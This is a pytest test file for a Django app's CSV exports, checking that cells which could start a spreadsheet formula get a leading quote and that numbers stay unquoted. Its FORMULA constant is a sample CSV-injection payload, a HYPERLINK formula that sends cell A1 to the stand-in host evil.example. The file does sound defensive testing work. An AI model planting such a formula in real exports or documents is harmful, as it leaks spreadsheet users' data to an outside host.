"""CSV downloads never hand a spreadsheet a formula (OWASP CSV injection), and numbers stay
numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
import time_machine
from django.urls import reverse
from django.utils.translation import gettext_lazy

from stagebrug.core.csv import csv_response, csv_writer, safe_cell
from stagebrug.placements.models import Placement
from tests.supervision.conftest import running  # noqa: F401 (a fixture)
from tests.supervision.test_attendance import at, working_day

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    "text", [FORMULA, "+31 20 123 4567", "-1+2", "@SUM(A1:A9)", "\tx", "\rx", "=1+1"]
)
def test_text_that_could_start_a_formula_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Bakkerij Zuurdesem", "", "1094 AB", "a=b", "Koken - bakken", "'=quoted", " =x"]
)
def test_ordinary_text_is_left_alone(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-3, -2.5, Decimal("-12.50"), 0, 7, True, None])
def test_numbers_stay_numbers_even_when_negative(number):
    assert safe_cell(number) is number


def test_lazy_translations_are_text_too():
    assert safe_cell(gettext_lazy("=formula")) == "'=formula"


def test_the_writer_escapes_every_cell_of_every_row():
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["=1+1", -4, "ok"])
    writer.writerows([["@x", Decimal("-1.5")], ["+y", 2]])
    assert out.getvalue().splitlines() == ["'=1+1;-4;ok", "'@x;-1.5", "'+y;2"]


def test_a_csv_response_is_an_attachment_that_spreadsheets_read_as_utf8():
    response, writer = csv_response("rapport.csv")
    writer.writerow(["Café", "=x"])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="rapport.csv"'
    assert response.content.decode("utf-8") == "\ufeffCafé;'=x\r\n"


def read(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_the_job_board_export_escapes_a_formula_in_the_business_name_and_title(
    client, published, personas
):
    personas.company.__class__.objects.filter(pk=personas.company.pk).update(name=FORMULA)
    Placement.objects.filter(pk=published.pk).update(title="-" + FORMULA)
    client.force_login(personas.owner)
    (row,) = read(client.get(reverse("placements:export", args=[personas.company.pk])))
    assert row["bedrijfsnaam"] == "'" + FORMULA
    assert row["titel"] == "'-" + FORMULA
    assert row["uren_per_week"] == str(published.hours_per_week)  # a number, no quote


def test_the_business_hours_record_escapes_a_formula_in_the_placement_title(
    client,
    running,  # noqa: F811 (the fixture)
    personas,
):
    Placement.objects.filter(pk=running.placement_id).update(title=FORMULA)
    with time_machine.travel(at(working_day(running, 1), "18:00")):
        client.force_login(personas.owner)
        response = client.get(
            reverse("supervision:company_hours", args=[running.placement.company_id])
        )
    rows = read(response)
    assert rows
    placement_column = list(rows[0])[2]
    assert {row[placement_column] for row in rows} == {"'" + FORMULA}
